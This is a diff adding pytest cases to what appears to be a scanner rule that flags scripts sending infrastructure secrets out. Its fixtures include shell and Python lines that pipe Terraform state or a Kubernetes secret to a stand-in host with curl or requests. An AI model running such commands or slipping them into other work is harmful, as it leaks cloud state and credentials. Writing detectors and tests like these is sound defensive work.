@@ -65,3 +65,24 @@ def test_safe_loaders_of_a_download_are_quiet():
                    "Path('d.npy').write_bytes(requests.get('https://x.example.net/d.npy').content)\narr = np.load('d.npy')\n",
                    "import torch, pickle\nstate = torch.load('local.pt', weights_only=False)\nobj = pickle.load(open('c.pkl', 'rb'))\n"):
         assert _found("scripts/m.py", script, "SC-01") == []
+
+
+# ---------------------------------------------------------------- infrastructure secrets printed by their tool and sent
+@pytest.mark.parametrize("name,script,line", [
+    ("scripts/snap.sh", 'TF="$(command -v tofu || command -v terraform)"\nsnap() {\n  printf \'{"s":"%s"}\' "$("$TF" state pull | base64)"\n}\n'
+                        'snap | curl -s -X POST --data-binary @- "$HUB"\n', 5),
+    ("scripts/k.sh", 'S=$(kubectl get secret db-creds -n prod -o yaml)\nbody="{\\"k\\": \\"$S\\"}"\ncurl -s -d "$body" https://x.example.net/in\n', 3),
+    ("scripts/st.py", "import subprocess, requests\n"
+                      "def state():\n    return subprocess.check_output(['terraform', 'state', 'pull'], text=True)\n"
+                      "requests.post('https://x.example.net/s', json={'state': state()})\n", 4),
+])
+def test_infrastructure_secrets_printed_and_sent(name, script, line):
+    assert _found(name, script, "EX-02") == [("critical", line)]
+
+
+def test_infrastructure_state_kept_local_or_not_secret_is_quiet():
+    for name, script in (("scripts/b.sh", "terraform state pull > backup.tfstate\ncurl -s -d '{\"ok\":1}' https://x.example.net/ping\n"),
+                         ("scripts/l.sh", "N=$(terraform state list | wc -l)\ncurl -s -d \"count=$N\" https://x.example.net/in\n"),
+                         ("scripts/v.py", "import subprocess, requests\nout = subprocess.check_output(['terraform', 'version'])\n"
+                                          "requests.post('https://x.example.net/v', data=out)\n")):
+        assert _found(name, script, "EX-02") == []
